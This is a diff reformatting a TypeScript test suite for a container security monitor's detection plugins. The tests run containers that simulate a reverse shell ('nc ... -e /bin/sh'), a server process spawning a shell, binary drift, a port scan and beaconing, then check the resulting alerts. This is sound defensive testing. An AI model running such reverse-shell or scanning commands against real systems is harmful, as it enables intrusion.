@@ -47,7 +47,11 @@ interface Alert {
 }
 
 async function alertsOf(server: TestServer): Promise<readonly Alert[]> {
-  return (await server.query<{ alerts: Alert[] }>('{ alerts(first: 1000) { severity title message source container { name } process { pid } } }')).alerts;
+  return (
+    await server.query<{ alerts: Alert[] }>(
+      '{ alerts(first: 1000) { severity title message source container { name } process { pid } } }',
+    )
+  ).alerts;
 }
 
 async function alertOf(server: TestServer, container: string, title: string): Promise<Alert> {
@@ -71,16 +75,20 @@ async function withPlugins(server: TestServer): Promise<string> {
 describe.each(['trusted', 'sandboxed'])('the shipped plugins, %s', (how) => {
   let server: TestServer;
   let session: string;
-  const sh = (name: string, script: string): Promise<string> => docker.run('--rm', '--name', name, TEST_IMAGE, 'sh', '-c', script);
+  const sh = (name: string, script: string): Promise<string> =>
+    docker.run('--rm', '--name', name, TEST_IMAGE, 'sh', '-c', script);
 
   beforeAll(async () => {
-    if (how === 'trusted') server = await startServer(['--engine', docker.socket, '--plugins', directory], { keep: true });
+    if (how === 'trusted')
+      server = await startServer(['--engine', docker.socket, '--plugins', directory], { keep: true });
     else {
       const token = 'a-secret-of-this-test';
       server = await startServer(['--engine', docker.socket, '--token', `admin:${token}`], { keep: true, token });
       for (const name of SHIPPED) {
         const source = await readFile(join(root, `plugins/${name}.ts`), 'utf8');
-        await server.query('mutation ($input: LoadPluginInput!) { loadPlugin(input: $input) { name } }', { input: { file: `${name}.ts`, source } });
+        await server.query('mutation ($input: LoadPluginInput!) { loadPlugin(input: $input) { name } }', {
+          input: { file: `${name}.ts`, source },
+        });
       }
     }
     session = await withPlugins(server);
@@ -88,54 +96,102 @@ describe.each(['trusted', 'sandboxed'])('the shipped plugins, %s', (how) => {
   afterAll(() => server.end('SIGTERM'));
 
   it('raise no alert of a container that does what containers do', async () => {
-    await sh('plug-benign', `for i in 1 2 3; do ls / >/tmp/list; cat /tmp/list; nc -w2 ${host} ${port} </dev/null; done; sh -c 'echo nested'; seq 100 | while read x; do :; done`);
+    await sh(
+      'plug-benign',
+      `for i in 1 2 3; do ls / >/tmp/list; cat /tmp/list; nc -w2 ${host} ${port} </dev/null; done; sh -c 'echo nested'; seq 100 | while read x; do :; done`,
+    );
     await sleep(500);
     expect((await alertsOf(server)).filter(({ container }) => container?.name === 'plug-benign')).toEqual([]);
   });
 
   it('find a shell behind an outgoing connection', async () => {
     await sh('plug-shell', `nc ${host} ${port} -e /bin/sh; true`);
-    expect(await alertOf(server, 'plug-shell', 'A shell behind an outgoing connection')).toMatchObject({ severity: 'HIGH', source: 'plugin:reverse-shell', process: { pid: expect.any(Number) } });
+    expect(await alertOf(server, 'plug-shell', 'A shell behind an outgoing connection')).toMatchObject({
+      severity: 'HIGH',
+      source: 'plugin:reverse-shell',
+      process: { pid: expect.any(Number) },
+    });
   });
 
   it('find a shell whose parent is a server program', async () => {
-    await sh('plug-server', `printf '#!/bin/sh\\nsh -c "echo pwned"\\ntrue\\n' > /root/nginx; chmod +x /root/nginx; /root/nginx`);
-    expect((await alertOf(server, 'plug-server', 'A server program started a shell')).message).toContain('whose parent is nginx');
+    await sh(
+      'plug-server',
+      `printf '#!/bin/sh\\nsh -c "echo pwned"\\ntrue\\n' > /root/nginx; chmod +x /root/nginx; /root/nginx`,
+    );
+    expect((await alertOf(server, 'plug-server', 'A server program started a shell')).message).toContain(
+      'whose parent is nginx',
+    );
   });
 
   it('find a program that was written in its container', async () => {
     await sh('plug-drift', 'cp /bin/busybox /tmp/ls; /tmp/ls /');
     const alert = await alertOf(server, 'plug-drift', 'A program that is not of the image');
-    expect(alert).toMatchObject({ severity: 'MEDIUM', source: 'plugin:container-drift', message: expect.stringContaining('/tmp/ls: cp wrote it') });
+    expect(alert).toMatchObject({
+      severity: 'MEDIUM',
+      source: 'plugin:container-drift',
+      message: expect.stringContaining('/tmp/ls: cp wrote it'),
+    });
   });
 
   it('find a scan of ports', async () => {
     await sh('plug-scan', `for p in $(seq 1 20); do nc -w1 ${host} $p </dev/null; done; true`);
-    expect(await alertOf(server, 'plug-scan', 'A scan of ports')).toMatchObject({ severity: 'MEDIUM', message: expect.stringContaining(`15 ports of ${host}`) });
+    expect(await alertOf(server, 'plug-scan', 'A scan of ports')).toMatchObject({
+      severity: 'MEDIUM',
+      message: expect.stringContaining(`15 ports of ${host}`),
+    });
   });
 
   it('find connections as regular as a beacon', async () => {
     await sh('plug-beacon', `for i in 1 2 3 4 5 6 7 8 9; do nc -w1 ${host} ${port} </dev/null; sleep 0.5; done`);
-    expect((await alertOf(server, 'plug-beacon', 'Connections as regular as a beacon')).message).toContain(`${host}:${port}`);
+    expect((await alertOf(server, 'plug-beacon', 'Connections as regular as a beacon')).message).toContain(
+      `${host}:${port}`,
+    );
   });
 
   it('find a call that is slow for once', async () => {
     await sh('plug-slow', '(seq 200; sleep 1.5; echo end) | dd bs=1 of=/dev/null');
-    expect(await alertOf(server, 'plug-slow', 'A slow system call')).toMatchObject({ severity: 'LOW', message: expect.stringMatching(/^read of dd in plug-slow took 1\d{3}/) });
+    expect(await alertOf(server, 'plug-slow', 'A slow system call')).toMatchObject({
+      severity: 'LOW',
+      message: expect.stringMatching(/^read of dd in plug-slow took 1\d{3}/),
+    });
   });
 
   it('count what the containers executed', async () => {
     await server.query('mutation ($id: ID!) { stopSession(id: $id) { id } }', { id: session });
-    const { session: answer } = await server.query<{ session: { plugins: { name: string; state: string; problem: string | null; errors: unknown[]; stats: { dropped: string; failed: string }; results: { results: { kind: string; value: Record<string, number> }[] } }[] } }>(
+    const { session: answer } = await server.query<{
+      session: {
+        plugins: {
+          name: string;
+          state: string;
+          problem: string | null;
+          errors: unknown[];
+          stats: { dropped: string; failed: string };
+          results: { results: { kind: string; value: Record<string, number> }[] };
+        }[];
+      };
+    }>(
       'query ($id: ID!) { session(id: $id) { plugins { name state problem errors { message at } stats { dropped failed } results(first: 10000) { results { kind value } } } } }',
       { id: session },
     );
-    expect(answer.plugins.map(({ name, state, problem, errors, stats }) => ({ name, state, problem, errors, stats })).sort((a, b) => (a.name < b.name ? -1 : 1))).toEqual(
-      SHIPPED.map((name) => ({ name, state: 'STOPPED', problem: null, errors: [], stats: { dropped: '0', failed: '0' } })),
+    expect(
+      answer.plugins
+        .map(({ name, state, problem, errors, stats }) => ({ name, state, problem, errors, stats }))
+        .sort((a, b) => (a.name < b.name ? -1 : 1)),
+    ).toEqual(
+      SHIPPED.map((name) => ({
+        name,
+        state: 'STOPPED',
+        problem: null,
+        errors: [],
+        stats: { dropped: '0', failed: '0' },
+      })),
     );
-    const tops = answer.plugins.find(({ name }) => name === 'template')?.results.results.filter(({ kind }) => kind === 'top') ?? [];
+    const tops =
+      answer.plugins.find(({ name }) => name === 'template')?.results.results.filter(({ kind }) => kind === 'top') ??
+      [];
     const counts = new Map<string, number>();
-    for (const { value } of tops) for (const [what, count] of Object.entries(value)) counts.set(what, (counts.get(what) ?? 0) + count);
+    for (const { value } of tops)
+      for (const [what, count] of Object.entries(value)) counts.set(what, (counts.get(what) ?? 0) + count);
     // busybox executes its programs by /proc/self/exe.
     expect(Object.fromEntries(counts)).toMatchObject({ 'plug-scan: exe': 20 });
   });
